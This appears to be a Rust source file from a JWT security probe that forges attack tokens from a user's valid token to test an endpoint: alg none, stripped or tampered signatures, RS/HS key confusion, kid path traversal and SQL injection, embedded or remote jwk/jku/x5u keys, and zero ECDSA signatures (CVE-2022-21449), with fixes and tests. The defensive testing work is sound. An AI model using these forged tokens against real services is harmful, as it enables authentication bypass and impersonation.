//! The attack tokens: each built from the user's own valid token, the way an
//! attacker would build it, so that an endpoint that accepts one has the
//! weakness it names.

use aws_lc_rs::hmac;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine as _;
use jwtkeep_core::inspect::decode_unverified;
use jwtkeep_core::{spki_of_public_jwk, Algorithm, JwkSet, KeyPair};
use serde_json::{json, Map, Value};

/// The attacks the probe knows, with what each proves when accepted.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum Attack {
    /// `alg: none` (in several spellings) and no signature.
    AlgNone,
    /// The original header and payload with the signature removed.
    SignatureStripped,
    /// A changed payload under the original signature.
    PayloadTampered,
    /// HS256 signed with the server's public key (PEM or JWK text) as the secret.
    HsConfusion,
    /// Correctly signed, but expired an hour ago.
    Expired,
    /// Correctly signed, but not valid for another hour.
    NotYetValid,
    /// A `kid` that walks the file system to `/dev/null`, HMAC with an empty key.
    KidTraversal,
    /// A `kid` with SQL that makes a key lookup return a chosen secret.
    KidInjection,
    /// Signed with a fresh key that the header itself carries (`jwk`).
    EmbeddedJwk,
    /// Signed with a fresh key published at a URL the header names (`jku`).
    Jku,
    /// Signed with a fresh key whose certificate URL the header names (`x5u`).
    X5u,
    /// ECDSA with r = s = 0 (CVE-2022-21449, "psychic signatures").
    PsychicEcdsa,
}

impl Attack {
    /// A stable kebab-case id.
    pub fn id(self) -> &'static str {
        match self {
            Attack::AlgNone => "alg-none",
            Attack::SignatureStripped => "signature-stripped",
            Attack::PayloadTampered => "payload-tampered",
            Attack::HsConfusion => "hs-confusion",
            Attack::Expired => "expired",
            Attack::NotYetValid => "not-yet-valid",
            Attack::KidTraversal => "kid-traversal",
            Attack::KidInjection => "kid-injection",
            Attack::EmbeddedJwk => "embedded-jwk",
            Attack::Jku => "jku",
            Attack::X5u => "x5u",
            Attack::PsychicEcdsa => "psychic-ecdsa",
        }
    }

    /// What accepting it means.
    pub fn meaning(self) -> &'static str {
        match self {
            Attack::AlgNone => "accepts unsigned tokens (alg none): anyone can log in as anyone",
            Attack::SignatureStripped => "accepts a token without its signature: signatures are not checked",
            Attack::PayloadTampered => "accepts a changed token under the old signature: signatures are not checked",
            Attack::HsConfusion => "verifies HS256 with its public key as the secret: anyone can forge tokens from the JWKS",
            Attack::Expired => "accepts expired tokens",
            Attack::NotYetValid => "accepts tokens before their nbf",
            Attack::KidTraversal => "reads keys from the file path in kid: a kid of /dev/null makes the key empty",
            Attack::KidInjection => "builds a key lookup from kid: SQL in kid chooses the key",
            Attack::EmbeddedJwk => "trusts the key embedded in the token's own header",
            Attack::Jku => "fetches the verification key from the URL in the token's header",
            Attack::X5u => "fetches the certificate from the URL in the token's header",
            Attack::PsychicEcdsa => "accepts an ECDSA signature of zeros (CVE-2022-21449)",
        }
    }

    /// What to do about it.
    pub fn fix(self) -> &'static str {
        match self {
            Attack::AlgNone | Attack::HsConfusion => {
                "pin the algorithm to the key (an algorithms allow-list of one); never let the header choose"
            }
            Attack::SignatureStripped | Attack::PayloadTampered => {
                "verify the signature before reading any claim (jwt.verify, not jwt.decode)"
            }
            Attack::Expired | Attack::NotYetValid => "validate exp and nbf with a small leeway (at most a minute)",
            Attack::KidTraversal | Attack::KidInjection => {
                "look kid up in a fixed key set (a map or JWKS), never in a file path or a query"
            }
            Attack::EmbeddedJwk | Attack::Jku | Attack::X5u => {
                "ignore jwk, jku, x5u and x5c headers; verify only with keys you configured"
            }
            Attack::PsychicEcdsa => "update the runtime's crypto library (Java 15–18 before the April 2022 patches)",
        }
    }
}

/// One token to send, and the attack it tests.
#[derive(Clone, Debug)]
pub struct Forged {
    /// The attack.
    pub attack: Attack,
    /// What exactly was varied (the alg spelling, the key form...).
    pub variant: String,
    /// The token.
    pub token: String,
}

/// The user's token, taken apart. Its `Debug` shows the header only: the
/// token is a live credential.
#[derive(Clone)]
pub struct Parts {
    pub(crate) header: Map<String, Value>,
    pub(crate) claims: Map<String, Value>,
    pub(crate) header_b64: String,
    pub(crate) payload_b64: String,
    pub(crate) signature_b64: String,
    signature: Vec<u8>,
}

impl std::fmt::Debug for Parts {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Parts")
            .field("header", &self.header)
            .finish_non_exhaustive()
    }
}

/// Why the user's token cannot be used as the base of the attacks.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum ForgeError {
    /// Not three base64url segments with JSON objects in the first two.
    #[error("the token is not a compact JWT with a JSON header and claims")]
    Malformed,
}

fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

fn json_b64(value: &Map<String, Value>) -> String {
    b64(Value::Object(value.clone()).to_string().as_bytes())
}

impl Parts {
    /// Takes a compact token apart (decoded as leniently as `token inspect`).
    pub fn parse(token: &str) -> Result<Parts, ForgeError> {
        let token = token.trim();
        let decoded = decode_unverified(token).map_err(|_| ForgeError::Malformed)?;
        let claims = decoded.claims.ok_or(ForgeError::Malformed)?;
        let mut segments = token.split('.');
        let (Some(h), Some(p), Some(s)) = (segments.next(), segments.next(), segments.next())
        else {
            return Err(ForgeError::Malformed);
        };
        Ok(Parts {
            header: decoded.header,
            claims,
            header_b64: h.to_owned(),
            payload_b64: p.to_owned(),
            signature_b64: s.to_owned(),
            signature: decoded.signature,
        })
    }

    /// The header's `alg`.
    pub fn alg(&self) -> Option<&str> {
        self.header.get("alg").and_then(Value::as_str)
    }

    /// The header's `kid`.
    pub fn kid(&self) -> Option<&str> {
        self.header.get("kid").and_then(Value::as_str)
    }

    /// The original token with its signature flipped in one bit: what a
    /// correct endpoint refuses, to compare refusals against.
    pub fn corrupted(&self) -> String {
        let mut sig = self.signature.clone();
        if let Some(first) = sig.first_mut() {
            *first ^= 1;
        } else {
            sig.push(1);
        }
        format!("{}.{}.{}", self.header_b64, self.payload_b64, b64(&sig))
    }
}

/// Signs `header.claims` with HMAC-SHA256 under `key` (any length: attacks
/// use keys jwtkeep itself would refuse).
fn hs256(header: &Map<String, Value>, claims_b64: &str, key: &[u8]) -> String {
    let input = format!("{}.{claims_b64}", json_b64(header));
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, key), input.as_bytes());
    format!("{input}.{}", b64(tag.as_ref()))
}

fn with(header: &Map<String, Value>, changes: &[(&str, Value)]) -> Map<String, Value> {
    let mut h = header.clone();
    for (k, v) in changes {
        h.insert((*k).to_owned(), v.clone());
    }
    h
}

/// The tokens that need no key at all: none, stripped, tampered, kid tricks, psychic.
pub(super) fn keyless(parts: &Parts) -> Vec<Forged> {
    let mut out = Vec::new();
    for spelling in ["none", "None", "NONE", "nOnE"] {
        let header = with(&parts.header, &[("alg", json!(spelling))]);
        out.push(Forged {
            attack: Attack::AlgNone,
            variant: format!("alg {spelling}"),
            token: format!("{}.{}.", json_b64(&header), parts.payload_b64),
        });
    }
    out.push(Forged {
        attack: Attack::SignatureStripped,
        variant: "empty signature".to_owned(),
        token: format!("{}.{}.", parts.header_b64, parts.payload_b64),
    });
    let mut tampered = parts.claims.clone();
    let sub = tampered
        .get("sub")
        .and_then(Value::as_str)
        .map_or_else(|| "admin".to_owned(), |s| format!("{s}-tampered"));
    tampered.insert("sub".to_owned(), json!(sub));
    tampered.insert("admin".to_owned(), json!(true));
    out.push(Forged {
        attack: Attack::PayloadTampered,
        variant: "sub changed, admin: true added".to_owned(),
        token: format!(
            "{}.{}.{}",
            parts.header_b64,
            json_b64(&tampered),
            parts.signature_b64
        ),
    });
    let hs_header = |kid: &str| {
        with(
            &parts.header,
            &[("alg", json!("HS256")), ("kid", json!(kid))],
        )
    };
    out.push(Forged {
        attack: Attack::KidTraversal,
        variant: "kid ../../../../../../../dev/null, empty HMAC key".to_owned(),
        token: hs256(
            &hs_header("../../../../../../../dev/null"),
            &parts.payload_b64,
            b"",
        ),
    });
    out.push(Forged {
        attack: Attack::KidInjection,
        variant: "kid with UNION SELECT of a chosen key".to_owned(),
        token: hs256(
            &hs_header("x' UNION SELECT 'jwtkeep-probe' -- "),
            &parts.payload_b64,
            b"jwtkeep-probe",
        ),
    });
    let (alg, width) = match parts.alg() {
        Some("ES384") => ("ES384", 96),
        Some("ES512") => ("ES512", 132),
        _ => ("ES256", 64),
    };
    let header = with(&parts.header, &[("alg", json!(alg))]);
    out.push(Forged {
        attack: Attack::PsychicEcdsa,
        variant: format!("{alg}, r = s = 0"),
        token: format!(
            "{}.{}.{}",
            json_b64(&header),
            parts.payload_b64,
            b64(&vec![0u8; width])
        ),
    });
    out
}

/// RS/HS confusion: HS256 under each public key of `jwks` (the key with the
/// token's `kid` first, at most two keys) as the server's PEM file reads,
/// with and without its final newline, and as JWK text.
pub(super) fn confusion(parts: &Parts, jwks: &JwkSet) -> Vec<Forged> {
    let mut keys: Vec<_> = jwks.keys.iter().filter(|k| k.kty != "oct").collect();
    keys.sort_by_key(|k| k.kid.as_deref() != parts.kid());
    let mut out = Vec::new();
    for jwk in keys.into_iter().take(2) {
        let Ok(spki) = spki_of_public_jwk(jwk) else {
            continue;
        };
        let pem = jwtkeep_core::pem::encode("PUBLIC KEY", &spki).to_string();
        let header = with(&parts.header, &[("alg", json!("HS256"))]);
        let name = jwk.kid.clone().unwrap_or_else(|| jwk.kty.clone());
        let jwk_text = serde_json::to_string(&jwk.to_public()).unwrap_or_default();
        for (form, secret) in [
            ("PEM", pem.clone()),
            ("PEM without final newline", pem.trim_end().to_owned()),
            ("JWK JSON", jwk_text),
        ] {
            out.push(Forged {
                attack: Attack::HsConfusion,
                variant: format!("key {name} as {form}"),
                token: hs256(&header, &parts.payload_b64, secret.as_bytes()),
            });
        }
    }
    out
}

/// Correctly signed tokens that break the time rules: needs the real key,
/// given as its algorithm's name and a signing function.
pub(super) fn timing(
    parts: &Parts,
    alg: &str,
    signer: &dyn Fn(&[u8]) -> Option<Vec<u8>>,
    now: i64,
) -> Vec<Forged> {
    let mut out = Vec::new();
    let header = with(&parts.header, &[("alg", json!(alg))]);
    let header_b64 = json_b64(&header);
    let mut sign = |attack, variant: &str, claims: Map<String, Value>| {
        let input = format!("{header_b64}.{}", json_b64(&claims));
        if let Some(sig) = signer(input.as_bytes()) {
            out.push(Forged {
                attack,
                variant: variant.to_owned(),
                token: format!("{input}.{}", b64(&sig)),
            });
        }
    };
    let mut expired = parts.claims.clone();
    expired.insert("iat".to_owned(), json!(now - 7200));
    expired.insert("exp".to_owned(), json!(now - 3600));
    sign(Attack::Expired, "exp an hour ago", expired);
    let mut early = parts.claims.clone();
    early.insert("iat".to_owned(), json!(now));
    early.insert("nbf".to_owned(), json!(now + 3600));
    early.insert("exp".to_owned(), json!(now + 7200));
    sign(Attack::NotYetValid, "nbf in an hour", early);
    out
}

/// Tokens signed with a fresh key that the token points to: embedded in the
/// header, or at `jwks_url` / `cert_url`; and the JWKS (JSON) to publish at
/// `jwks_url`.
pub(super) fn foreign_key(parts: &Parts, jwks_url: &str, cert_url: &str) -> (Vec<Forged>, String) {
    let Ok(pair) = KeyPair::generate(Algorithm::Es256, 2048, None) else {
        return (Vec::new(), String::new());
    };
    let Ok(key) = pair.signing_key() else {
        return (Vec::new(), String::new());
    };
    let published = serde_json::to_string(&pair.jwks()).unwrap_or_default();
    let jwk = serde_json::to_value(pair.public_jwk()).unwrap_or_default();
    let base = with(
        &parts.header,
        &[("alg", json!("ES256")), ("kid", json!(pair.kid()))],
    );
    let mut out = Vec::new();
    for (attack, member, value, variant) in [
        (
            Attack::EmbeddedJwk,
            "jwk",
            jwk,
            "a fresh P-256 key in the jwk header",
        ),
        (
            Attack::Jku,
            "jku",
            json!(jwks_url),
            "jku naming a JWKS with a fresh key",
        ),
        (
            Attack::X5u,
            "x5u",
            json!(cert_url),
            "x5u naming a certificate URL",
        ),
    ] {
        let header = with(&base, &[(member, value)]);
        let input = format!("{}.{}", json_b64(&header), parts.payload_b64);
        if let Ok(sig) = key.sign(input.as_bytes()) {
            out.push(Forged {
                attack,
                variant: variant.to_owned(),
                token: format!("{input}.{}", b64(&sig)),
            });
        }
    }
    (out, published)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn token() -> String {
        let h = b64(br#"{"alg":"RS256","kid":"k1","typ":"JWT"}"#);
        let p = b64(br#"{"sub":"alice","exp":2000000000}"#);
        format!("{h}.{p}.{}", b64(&[9; 256]))
    }

    #[test]
    fn keyless_attacks_keep_the_payload_and_change_what_they_say() {
        let parts = Parts::parse(&token()).unwrap();
        let forged = keyless(&parts);
        let none: Vec<&Forged> = forged
            .iter()
            .filter(|f| f.attack == Attack::AlgNone)
            .collect();
        assert_eq!(none.len(), 4);
        for f in &none {
            assert!(f.token.ends_with('.'));
            assert!(f.token.contains(&parts.payload_b64));
        }
        let tampered = forged
            .iter()
            .find(|f| f.attack == Attack::PayloadTampered)
            .unwrap();
        let t = Parts::parse(&tampered.token).unwrap();
        assert_eq!(t.claims["sub"], "alice-tampered");
        assert_eq!(t.signature_b64, parts.signature_b64);
        let psychic = forged
            .iter()
            .find(|f| f.attack == Attack::PsychicEcdsa)
            .unwrap();
        let p = Parts::parse(&psychic.token).unwrap();
        assert_eq!(p.alg(), Some("ES256"));
        assert_eq!(
            URL_SAFE_NO_PAD.decode(&p.signature_b64).unwrap(),
            vec![0; 64]
        );
    }

    #[test]
    fn confusion_signs_with_the_pem_a_server_would_read() {
        let pair = KeyPair::generate(Algorithm::Rs256, 2048, Some("k1".into())).unwrap();
        let parts = Parts::parse(&token()).unwrap();
        let forged = confusion(&parts, &pair.jwks());
        assert_eq!(forged.len(), 3);
        let expected = hs256(
            &with(&parts.header, &[("alg", json!("HS256"))]),
            &parts.payload_b64,
            pair.public_pem().as_bytes(),
        );
        assert_eq!(forged[0].token, expected, "signed with the exact PEM text");
    }

    #[test]
    fn corrupted_differs_from_the_original_only_in_the_signature() {
        let parts = Parts::parse(&token()).unwrap();
        let bad = parts.corrupted();
        assert_ne!(bad, token());
        assert!(bad.starts_with(&format!("{}.{}.", parts.header_b64, parts.payload_b64)));
        assert_eq!(Parts::parse("a.b").unwrap_err(), ForgeError::Malformed);
    }
}
